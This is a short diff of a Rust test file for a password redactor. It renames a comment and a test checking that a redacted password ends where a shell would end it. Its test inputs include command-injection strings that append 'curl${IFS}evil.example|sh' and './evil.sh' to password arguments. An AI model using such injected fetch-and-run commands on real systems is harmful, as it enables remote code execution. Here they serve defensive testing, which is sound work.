@@ -1,4 +1,4 @@
-//! Values that are dressed as passwords, and passwords.
+//! Tests of the end of a value: disguised commands stay visible, passwords do not.
 
 use super::super::{Mark, Redactor};
 
@@ -7,7 +7,7 @@ fn record(text: &str) -> String {
 }
 
 #[test]
-fn a_guess_ends_where_a_shell_would_end_it() {
+fn guess_ends_where_a_shell_ends_the_value() {
     for (text, left) in [
         ("mysql -pz1;curl${IFS}evil.example|sh", ";curl${IFS}evil.example|sh"),
         ("sshpass -pz1;./evil.sh", ";./evil.sh"),
